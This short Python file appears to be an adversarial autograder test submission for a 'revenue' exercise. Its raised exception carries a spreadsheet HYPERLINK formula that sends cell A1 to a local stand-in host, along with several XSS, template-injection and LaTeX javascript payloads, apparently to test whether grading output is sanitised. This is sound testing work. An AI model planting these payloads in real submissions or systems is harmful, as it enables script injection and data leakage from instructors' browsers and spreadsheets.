"""Raises an exception with markup for the instructor's browser and a formula for their spreadsheet.

exercise: revenue
goal: secret
deserves: 0
"""


def revenue(orders):
    raise type('=HYPERLINK("http://127.0.0.1/?"&A1)', (Exception,), {})(
        "</pre></script><script>document.title='was here'</script><img src=x onerror=\"document.title='was here'\">"
        "<iframe srcdoc=\"<script>parent.document.title='was here'</script>\"></iframe>"
        "{{ 7*7 }}{% raw %}$$\\href{javascript:1}{x}$$"
    )
